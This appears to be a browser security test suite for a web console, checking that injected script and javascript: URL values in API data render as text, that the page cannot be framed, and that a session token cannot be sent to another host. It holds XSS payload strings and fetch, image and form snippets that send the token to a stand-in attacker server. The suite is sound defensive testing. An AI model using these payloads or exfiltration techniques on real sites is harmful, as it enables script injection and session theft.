// Attacks in a real browser: records that are scripts, a frame around our page, and ways to send
// the token elsewhere. docs/threats.md names each test.

import http from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { createSite } from '../../server/platform/http/staticSite.ts';
import { paths } from '../../src/platform/boot/paths.ts';
import { features } from '../../src/shared/contract/features.ts';
import { inBrowser, testBrowser } from '../support/browser/browser.ts';
import { type StaticHost, startStaticHost } from '../support/browser/staticHost.ts';
import { mapped } from '../support/console/dialects.ts';
import { json, startProxy, type TestProxy } from '../support/console/proxy.ts';
import { listen } from '../support/server/ports.ts';
import { startServer, type TestServer } from '../support/server/server.ts';

const browser = testBrowser();
let server: TestServer;
let token: string;
let elsewhereUrl: string;
/** The attacker's host: the requests it received, and how it answers. */
const requests: string[] = [];
const elsewhere = http.createServer((request, response) => {
  requests.push(request.url ?? '');
  response.writeHead(200, { 'Content-Type': 'text/html' }).end(`<iframe src="${server.url}/login"></iframe>`);
});

beforeAll(async () => {
  server = await startServer({ site: createSite(inject('site')) });
  token = await server.signIn(server.users.administrator);
  elsewhereUrl = `http://127.0.0.1:${await listen(elsewhere)}`;
});
afterAll(async () => {
  elsewhere.closeAllConnections();
  elsewhere.close();
  await server.stop();
});

async function openSignedIn(path: string, origin = server.url): Promise<Page> {
  const page = await browser.open(origin + path, { token });
  await page.getByRole('heading', { level: 1 }).waitFor();
  return page;
}

// This depends on React and the console, not on the browser.
inBrowser('chromium', () =>
  describe('a script in every text field and a javascript: URL in every URL field', () => {
    const script = '"><img src=x onerror="window.hostile=1"><script>window.hostile=1</script>';
    const address = 'javascript:window.hostile=1';
    /** Enumerations and dates: other values are rejected before they are shown. */
    const choices = [
      'event_type',
      'type',
      'health_status',
      'multiple_clock_out_mode',
      'timestamp',
      'created_at',
      'date',
      'day',
      'as_of',
    ];

    const hostile = (body: unknown) =>
      mapped(body, (value, name) => {
        if (name === 'features') return [...features];
        if (typeof value !== 'string' || choices.includes(name)) return value;
        return /url$/.test(name) ? address : script;
      });

    // The host sends no content security policy, since the console must not depend on it.
    let proxy: TestProxy;
    let host: StaticHost;
    beforeAll(async () => {
      proxy = await startProxy(server.api, async (_, ask) => {
        const { status, text } = await ask();
        return json(status, hostile(JSON.parse(text)));
      });
      host = await startStaticHost(inject('site'), '/', { api: new URL(proxy.api).origin });
    });
    afterAll(async () => {
      await host.stop();
      await proxy.stop();
    });

    async function openHostile(path: string): Promise<Page> {
      const page = await openSignedIn(path, new URL(host.url).origin);
      // In the content, not only in the sidebar's user name.
      await page.getByRole('main').getByText('onerror="window.hostile=1"').filter({ visible: true }).first().waitFor();
      return page;
    }

    async function expectHarmless(page: Page): Promise<void> {
      expect(await page.evaluate(() => 'hostile' in window)).toBe(false);
      expect(await page.locator('img[src="x"], a[href^="javascript" i], iframe, object, embed').count()).toBe(0);
    }

    /** The records of all days, since today may have none yet. */
    const attendance = `${paths.attendance}?start_date=&end_date=`;
    const addresses: Readonly<Record<string, string>> = {
      [paths.attendance]: attendance,
      [paths.invitation]: `${paths.invitation}#token=invented&email=ada%40rollcall.example`,
    };
    const screens = Object.values(paths)
      .filter((path) => !['/login', '/forgot-password'].includes(path))
      .map((path) => addresses[path] ?? path);

    test.each(screens)('is shown as text by %s', async (path) => {
      // The invitation does not exist.
      if (path === addresses[paths.invitation]) browser.expectProblem(/status of 422/);
      await expectHarmless(await openHostile(path));
    });

    test.each([
      ['/companies', /^URLs of /],
      ['/companies', /^Edit /],
      ['/companies', /^Delete /],
      [attendance, /^View/],
    ])('is shown as text by %s in the dialog that %s opens', async (path, name) => {
      const page = await openHostile(path);
      await page.getByRole('button', { name }).first().click();
      const dialog = page.getByRole('dialog').or(page.getByRole('alertdialog')).first();
      await dialog.getByText('onerror=').or(dialog.locator('input[value*="onerror="]')).first().waitFor();
      await expectHarmless(page);
    });
  }),
);

test('cannot be framed by another page', async () => {
  browser.expectProblem(/frame-ancestors/);
  const page = await browser.open(elsewhereUrl);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:|^about:neterror\?e=cspBlocked/);
});

describe('a token that an attacker has in the page', () => {
  const ways = [
    ['a request', (url: string) => void fetch(url).catch(() => undefined)],
    ['a picture', (url: string) => void (new Image().src = url)],
    [
      'a form',
      (url: string) => {
        const form = document.createElement('form');
        form.action = url;
        document.body.append(form);
        try {
          form.submit();
        } catch {
          // Firefox throws what it has blocked.
        }
      },
    ],
  ] as const;

  test.each(ways)('cannot be sent elsewhere by %s', async (way, send) => {
    browser.expectProblem(/Content.Security.Policy/);
    const page = await openSignedIn('/profile');
    const url = `${elsewhereUrl}/stolen-by-${way.replace(' ', '-')}`;
    await page.evaluate(send, url);
    await browser.expectedProblems();
    expect(requests.filter((path) => path.includes('stolen'))).toEqual([]);
  });

  test('never appears in a URL', async () => {
    const page = await openSignedIn('/profile');
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto(`${server.url}/companies?page=2`);
    await page.getByText(/^Page 2 of \d+$/).waitFor();
    expect(asked.some((url) => url.includes('/web/api/v1/companies'))).toBe(true);
    expect(asked.filter((url) => url.includes(token))).toEqual([]);
  });
});
